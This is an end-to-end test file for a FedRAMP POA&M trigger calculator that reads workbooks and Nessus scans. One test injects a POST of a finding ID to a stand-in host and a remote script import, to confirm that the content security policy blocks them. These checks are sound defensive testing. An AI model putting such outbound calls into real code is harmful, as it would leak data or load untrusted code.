import type { Page } from 'playwright';
import { describe, expect, it } from 'vitest';
import { sampleItemCount } from '../../src/domain/poam/sample.ts';
import { accessibilityFaults } from '../support/accessibility.ts';
import { visitSite } from '../support/browser.ts';
import { builtSite } from '../support/built-site.ts';
import { manyItems, openSheet, openWorkbookOf } from '../support/evidence/built-items.ts';
import { buildCsv } from '../support/evidence/csv-builder.ts';
import { nessusFile, scanInformation } from '../support/evidence/nessus-builder.ts';
import {
  counted,
  downloadedSample,
  fileEntry,
  giveFiles,
  giveSample,
  numberEntry,
} from '../support/evidence-journey.ts';
import { savedFile, useTool } from '../support/tool-journey.ts';
import { verdict } from '../support/trigger-journey.ts';
import { startWatchingProxy } from '../support/watching-proxy.ts';

const visit = visitSite(builtSite());
const lateHigh = 'Late Remediation High Impact Vulnerabilities, more than 30 days';
const lateHigh60 = 'Late Remediation High Impact Vulnerabilities, more than 60 days';
const lateModerate = 'Late Remediation Moderate Impact Vulnerabilities, more than 90 days';
const lateModerate120 = 'Late Remediation Moderate Impact Vulnerabilities, more than 120 days';

const weak = { plugin: '51192', name: 'A certificate that cannot be trusted', severity: '3' };
const scan = {
  name: 'scan.nessus',
  content: nessusFile([
    { name: 'silent-1', items: [weak] },
    { name: 'silent-2', items: [weak] },
    { name: 'open-1', tags: { Credentialed_Scan: 'true' }, items: [scanInformation('yes'), weak] },
  ]),
};

const numberOf = (page: Page, name: string) => numberEntry(page, name).locator('.number').innerText();
const result = (page: Page) => page.locator('#result-late-remediation-high-30');
const idsShown = (page: Page) => page.locator('.evidence-list tbody tr td:first-child').allInnerTexts();

describe('a POA&M workbook in the trigger calculator', () => {
  it('is recognized and counted: the sample that the page links to', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      await giveSample(page);
      const told = await fileEntry(page, 'sample-poam.xlsx').innerText();
      expect(told).toContain('FedRAMP POA&M workbook, layout 3.0, dated 29 May 2026');
      expect(told).toContain(`${sampleItemCount} open items, 2 closed items and 1 configuration finding in 19 rows`);
      expect(told).not.toContain('left out');
      expect(await page.getByLabel('Count ages as of').inputValue()).toBe('2026-05-29');
      const names = [lateHigh, lateHigh60, lateModerate, lateModerate120, 'Unique vulnerabilities'];
      expect(await Promise.all(names.map((name) => numberOf(page, name)))).toEqual(['6', '1', '2', '0', '15']);
      expect(await numberEntry(page, lateHigh).locator('.state').innerText()).toBe('Met');
      expect(await numberEntry(page, lateModerate).locator('.state').innerText()).toBe('Not met');
    }));

  it('shows the items behind a number, sorted by any column, and saves them as CSV', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      await giveSample(page);
      const entry = numberEntry(page, lateHigh);
      await entry.getByRole('button', { name: 'Show the 6 items' }).click();
      await expect.poll(() => idsShown(page)).toEqual(['V-104', 'V-101', 'V-102', 'V-105', 'V-103', 'V-107']);
      const age = entry.getByRole('columnheader', { name: 'Age in days' });
      await age.getByRole('button').click();
      await expect.poll(() => idsShown(page)).toEqual(['V-107', 'V-103', 'V-105', 'V-102', 'V-101', 'V-104']);
      expect(await age.getAttribute('aria-sort')).toBe('ascending');
      await age.getByRole('button').click();
      await expect.poll(() => idsShown(page)).toEqual(['V-104', 'V-101', 'V-102', 'V-105', 'V-103', 'V-107']);
      expect(await age.getAttribute('aria-sort')).toBe('descending');
      const { name, text } = await savedFile(page, () => entry.getByRole('button', { name: /^Save as CSV/ }).click());
      expect(name).toMatch(/^[\w-]+-late\.csv$/);
      const lines = text.trim().split(/\r?\n/);
      expect(lines).toHaveLength(7);
      expect(lines[0]).toContain('"POA&M id","Weakness name","Effective rating","Age in days"');
      expect(text).toContain('"V-105","Weak cipher on the mail relay","High","44","2026-04-15"');
      await entry.getByRole('button', { name: 'Hide the 6 items' }).click();
      await expect.poll(() => page.locator('.evidence-list').count()).toBe(0);
    }));

  it('tells when the next triggers come true if nothing is remediated, drawn and in a table', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      await giveSample(page);
      const ahead = page.locator('details').filter({ hasText: 'If nothing is remediated' });
      await ahead.getByText('If nothing is remediated: what comes true, and when').click();
      await ahead.getByText('No item is closed, and none is added, after 29 May 2026').waitFor();
      await ahead.locator('.coming li').first().waitFor();
      const coming = await ahead.locator('.coming').innerText();
      expect(coming).toContain('2026');
      expect(coming).toContain('Late Remediation');
      expect(await ahead.getByRole('img').count()).toBeGreaterThan(0);
      expect(await ahead.getByRole('table').innerText()).toContain('29 May 2026');
      expect(await accessibilityFaults(page, '.evidence')).toEqual([]);
    }));

  it('fills the facts once that was looked at, and is taken out of them again', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      await giveSample(page);
      const days = page.locator('[id^="remediation.items."][id$=".detected"]');
      await page.getByRole('button', { name: 'Use these numbers' }).click();
      const form = page.getByRole('region', { name: 'What would be filled in' });
      await form.getByText('Open items by age: will be filled.').waitFor();
      await form.getByText('Day of judgment: will be 29 May 2026.').waitFor();
      expect(await days.count()).toBe(0);
      await form.getByRole('button', { name: 'Fill these in' }).click();
      await page.getByText('The numbers are filled in, and the triggers below answer by them.').waitFor();
      await expect.poll(() => result(page).locator('.state').innerText()).toBe('Met');
      expect(await result(page).innerText()).toContain(
        '6 high impact items are more than 30 days old; the limit is 5.',
      );
      expect(await verdict(page)).toBe('Detailed Finding Review (DFR)');
      expect(await days.count()).toBeGreaterThan(0);
      await page.locator('.evidence').getByRole('button', { name: 'Undo', exact: true }).click();
      await expect.poll(() => days.count()).toBe(0);
      await page.getByText('What the files filled in was taken out again.').waitFor();
      await expect.poll(() => verdict(page)).toBe('None found yet');
      expect(await numberOf(page, lateHigh)).toBe('6');
    }));
});

describe('a scan beside a POA&M', () => {
  it('gives the unique vulnerabilities, and asks about hosts of which it does not tell', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      await giveFiles(page, await downloadedSample(page), scan);
      const hosts = page.getByRole('group', { name: 'Were these scanned with credentials? 2 to say' });
      await hosts.waitFor();
      expect(await fileEntry(page, scan.name).innerText()).toContain('Nessus scan, format version 2');
      expect(await numberOf(page, 'Unique vulnerabilities')).toBe('1');
      expect(await numberOf(page, lateHigh)).toBe('6');
      expect(await hosts.getByRole('button', { name: 'With credentials', exact: true }).isDisabled()).toBe(true);
      await hosts.getByLabel('silent-1').check();
      await hosts.getByRole('button', { name: 'Without credentials' }).click();
      const entry = numberEntry(page, 'Hosts scanned without credentials');
      await expect.poll(() => entry.locator('.number').innerText()).toBe('1+');
      await entry.getByText('You answered for one host.').waitFor();
      const last = page.getByRole('group', { name: 'Were these scanned with credentials? 1 to say' });
      await last.getByLabel('All of them').check();
      await last.getByRole('button', { name: 'With credentials', exact: true }).click();
      await entry.getByText('You answered for 2 hosts.').waitFor();
      await expect.poll(() => last.count()).toBe(0);
      await entry.getByRole('button', { name: 'Take all answers back' }).click();
      await hosts.waitFor();
    }));

  it('takes a reason for hosts that cannot be scanned with credentials, and leaves them out', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      const hosts = ['printer-1', 'printer-2', 'web-1'].map((name) => ({
        name,
        items: [scanInformation(name.startsWith('printer') ? 'no' : 'yes')],
      }));
      await giveFiles(page, { name: 'month.nessus', content: nessusFile(hosts) });
      const entry = numberEntry(page, 'Hosts scanned without credentials');
      await entry.getByText('2 of 3 hosts without credentials: 66.67%; 10% or more counts.').waitFor();
      expect(await entry.locator('.number').innerText()).toBe('2');
      await entry.getByText('Some cannot be scanned with credentials?').click();
      const form = entry.getByRole('group', { name: 'Scanned without credentials: 2 hosts' });
      await form.getByLabel('printer-1').check();
      const state = form.getByRole('button', { name: 'State this reason' });
      expect(await state.isDisabled()).toBe(true);
      await form.getByLabel('Why those chosen cannot be scanned with credentials').fill('It takes no login.');
      await state.press('Enter');
      await entry.getByText('1 of 2 hosts without credentials: 50%').waitFor();
      await entry.getByText('1 host left out with a justification.').waitFor();
      expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Hosts scanned without credentials');
      await entry.getByRole('button', { name: 'Take all answers back' }).press('Enter');
      await entry.getByText('2 of 3 hosts without credentials').waitFor();
    }));
});

describe('files that are not read at once', () => {
  it('are refused in words, and the others stay', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      const sample = await downloadedSample(page);
      const half = Buffer.from(sample.content).subarray(0, Math.floor(sample.content.length / 2));
      const locked = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]);
      await giveFiles(
        page,
        sample,
        { name: 'locked.xlsx', content: locked },
        { name: 'half.xlsx', content: half },
        { name: 'nothing.csv', content: '' },
        { name: 'report.xls', content: '<!DOCTYPE html><html><body><table></table></body></html>' },
      );
      await page.getByRole('status').getByText('The files are read and counted. 4 not read.').waitFor();
      const told = (name: string) => fileEntry(page, name).locator('.refused').innerText();
      expect(await told('locked.xlsx')).toMatch(
        /^Not read\. .*older \.xls form, or a locked one\..*without a password/,
      );
      expect(await told('half.xlsx')).toMatch(/^Not read\. It ends too early/);
      expect(await told('nothing.csv')).toBe('Not read. nothing.csv is empty.');
      expect(await told('report.xls')).toContain('report.xls is a web page (HTML).');
      for (const name of ['locked.xlsx', 'half.xlsx']) expect(await told(name)).not.toContain('unforeseen');
      expect(await numberOf(page, lateHigh)).toBe('6');
      await page.getByRole('button', { name: 'Remove half.xlsx' }).click();
      await expect.poll(() => fileEntry(page, 'half.xlsx').count()).toBe(0);
      await page.getByRole('button', { name: 'Remove sample-poam.xlsx' }).click();
      await expect.poll(() => page.locator('.numbers').count()).toBe(0);
      expect(await page.locator('.files > li').count()).toBe(3);
    }));

  it('ask at the file what they leave open, and are read once it is answered', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      const items = manyItems(5).map((item) => ({
        ...item,
        'Original Detection Date': '03/04/2026',
        'Scheduled Completion Date': '05/06/2026',
        'Status Date': '05/06/2026',
      }));
      await giveFiles(page, { name: 'poam.csv', content: buildCsv(openSheet(items)) });
      const entry = fileEntry(page, 'poam.csv');
      await entry.getByText('Which is it?').waitFor();
      await entry.getByRole('button', { name: 'Read it so' }).click();
      await entry.getByText('Choose one of the answers.').waitFor();
      await entry.getByLabel('Open items').check();
      await entry.getByRole('button', { name: 'Read it so' }).click();
      await entry.getByText('Which number is the month?').waitFor();
      await entry.getByLabel('The first is the day: 3 April 2026').check();
      await entry.getByRole('button', { name: 'Read it so' }).click();
      await entry.getByText('5 open items').waitFor();
      await page.getByLabel('Count ages as of').fill('2026-05-29');
      await expect.poll(() => numberOf(page, lateHigh)).toBe('2');
      await page.getByRole('button', { name: 'Show 5 items: all items of all files' }).click();
      const found = page.locator('.evidence-list tbody tr').first();
      await expect.poll(() => found.innerText()).toContain('2026-04-03');
    }));

  it('count as of one month where they tell no date, until each is given its own, by the keyboard alone', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      const [july, august] = ['open-july.csv', 'open-august.csv'] as const;
      const content = (amount: number) => buildCsv(openSheet(manyItems(amount)), { showDate: () => '2026-05-14' });
      await giveFiles(page, { name: july, content: content(3) }, { name: august, content: content(2) });
      const merged = page.getByText(`${july} and ${august}: without a date, so taken as of the month that is counted.`);
      await merged.waitFor();
      const toField = async (name: string) => {
        await page.getByRole('button', { name: `Remove ${name}` }).focus();
        await page.keyboard.press('Tab');
        await page.keyboard.press('Enter');
        await fileEntry(page, name).getByLabel('Date of this file').waitFor();
        await page.keyboard.press('Tab');
      };
      const date = async (name: string, typed: string, said: string) => {
        await toField(name);
        await page.keyboard.type(typed);
        await page.keyboard.press('Enter');
        await fileEntry(page, name).getByText(`dated ${said}, as you said`).waitFor();
        expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(name);
      };
      await date(july, '07312026', '31 July 2026');
      await date(august, '08312026', '31 August 2026');
      const history = page.getByText('POA&M of 31 August 2026, against that of 31 July 2026:');
      await history.waitFor();
      expect(await page.getByLabel('Count ages as of').inputValue()).toBe('2026-08-31');
      expect(await merged.count()).toBe(0);
      await toField(august);
      await page.keyboard.press('Backspace');
      await page.keyboard.press('Enter');
      await fileEntry(page, august).getByText('This is not a day of the calendar yet.').waitFor();
      expect(await accessibilityFaults(page, '.evidence')).toEqual([]);
      for (let part = 0; part < 2; part += 1) {
        await page.keyboard.press('ArrowRight');
        await page.keyboard.press('Backspace');
      }
      await page.keyboard.press('Enter');
      await fileEntry(page, august).getByText(', without a date.').waitFor();
      await expect.poll(() => history.count()).toBe(0);
    }));

  it('stop when they are called off, and the others are read', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      await giveFiles(page, { name: 'large.xlsx', content: openWorkbookOf(manyItems(40_000)) });
      await page.getByRole('button', { name: 'Cancel reading large.xlsx' }).click();
      await fileEntry(page, 'large.xlsx').getByText('Reading was canceled.').waitFor();
      expect(await page.locator('.numbers').count()).toBe(0);
      await giveSample(page);
      expect(await numberOf(page, lateHigh)).toBe('6');
      await fileEntry(page, 'large.xlsx').getByRole('button', { name: 'Read it after all' }).waitFor();
    }));
});

describe('what the files hold', () => {
  it('goes nowhere while they are read, counted, listed and used', async () => {
    const proxy = await startWatchingProxy();
    try {
      await useTool(
        visit,
        'triggers',
        async ({ page }) => {
          const sample = await downloadedSample(page);
          await page.waitForLoadState('networkidle');
          proxy.requests.length = 0;
          await giveFiles(page, { ...sample, name: 'secret-name.xlsx' }, scan);
          await counted(page);
          await numberEntry(page, lateHigh).getByRole('button', { name: 'Show the 6 items' }).click();
          await page.locator('.evidence-list table').waitFor();
          await page.getByRole('button', { name: 'Use these numbers' }).click();
          await page.getByRole('button', { name: 'Fill these in' }).click();
          await page.getByText('The numbers are filled in, and').waitFor();
        },
        proxy.options,
      );
    } finally {
      await proxy.close();
    }
    // Chromium itself asks its maker how to fill forms, of any site with fields; the site has no part in it.
    const requests = proxy.requests.filter(({ url }) => url.host !== 'content-autofill.googleapis.com');
    const addresses = requests.map(({ url }) => url.href);
    // What the two workers load to read and to count: nothing of them escaped the proxy.
    for (const part of ['evidence-thread', 'evidence-worker', 'read-workbook', 'read-nessus']) {
      expect(addresses.join('\n')).toContain(`${visit.origin}/_astro/${part}`);
    }
    const others = requests.filter(
      ({ method, url, bytes }) =>
        method !== 'GET' ||
        bytes() > 0 ||
        url.origin !== visit.origin ||
        !/^\/_astro\/[\w.-]+\.(?:js|css)$/.test(url.pathname) ||
        url.search !== '',
    );
    expect(others.map(({ method, url }) => `${method} ${url.href}`)).toEqual([]);
    for (const secret of ['secret', 'scan.nessus', 'V-101', 'web-1', 'silent']) {
      expect(addresses.filter((address) => address.includes(secret))).toEqual([]);
    }
  });
});

describe('the threads that read and count', () => {
  it('go by the policy of the page, which forbids them to ask another site for anything', async () => {
    const { context } = await visit.profile();
    try {
      const page = await context.newPage();
      await page.goto(`${visit.origin}/tools/triggers/`);
      await giveSample(page);
      const [thread, ...others] = page.workers();
      expect(others).toEqual([]);
      // As text: what compiles the tests would change the import into one of its own.
      const refused = await thread?.evaluate<readonly string[]>(`(async () => {
        const directives = [];
        addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
        await fetch('https://elsewhere.example/', { method: 'POST', body: 'V-101' }).catch(() => {});
        await import('https://elsewhere.example/a.js').catch(() => {});
        return directives;
      })()`);
      expect(refused?.map((directive) => directive.replace('-elem', ''))).toEqual(['connect-src', 'script-src']);
    } finally {
      await context.close();
    }
  });

  it('are started by their address where a host forbids to start them from text', () =>
    useTool(visit, 'triggers', async ({ page, faults }) => {
      await page.evaluate(() => {
        URL.createObjectURL = () => `${location.origin}/nothing-there.js`;
      });
      const sample = await downloadedSample(page);
      await giveFiles(page, sample);
      await counted(page);
      expect(await numberOf(page, lateHigh)).toBe('6');
      // That nothing is at the address in its place is the only fault.
      expect(faults.splice(0).filter((fault) => !fault.includes('nothing-there.js'))).toEqual([]);
    }));
});

describe('access to what the files come to', () => {
  it.each(['light', 'dark'] as const)(
    'leaves axe nothing to find, in %s colors',
    (colorScheme) =>
      useTool(
        visit,
        'triggers',
        async ({ page }) => {
          await giveFiles(page, await downloadedSample(page), scan, { name: 'nothing.csv', content: '' });
          await page.getByRole('status').getByText('The files are read and counted. 1 not read.').waitFor();
          await numberEntry(page, lateHigh).getByRole('button', { name: 'Show the 6 items' }).click();
          await page.locator('.evidence-list table').waitFor();
          await page.getByText(/^How it was counted/).click();
          await page.getByRole('button', { name: 'Use these numbers' }).click();
          await page.getByRole('button', { name: 'Fill these in' }).waitFor();
          expect(await accessibilityFaults(page, '.evidence')).toEqual([]);
        },
        { colorScheme },
      ),
    120_000,
  );

  it('fits a screen of 320 pixels', () =>
    useTool(
      visit,
      'triggers',
      async ({ page }) => {
        await giveFiles(page, await downloadedSample(page), scan);
        await counted(page);
        await numberEntry(page, lateHigh).getByRole('button', { name: 'Show the 6 items' }).click();
        await page.locator('.evidence-list table').waitFor();
        await page.getByText(/^How it was counted/).click();
        await page.getByRole('button', { name: 'Use these numbers' }).click();
        await page.getByRole('button', { name: 'Fill these in' }).waitFor();
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
      },
      { viewport: { width: 320, height: 740 } },
    ));
});
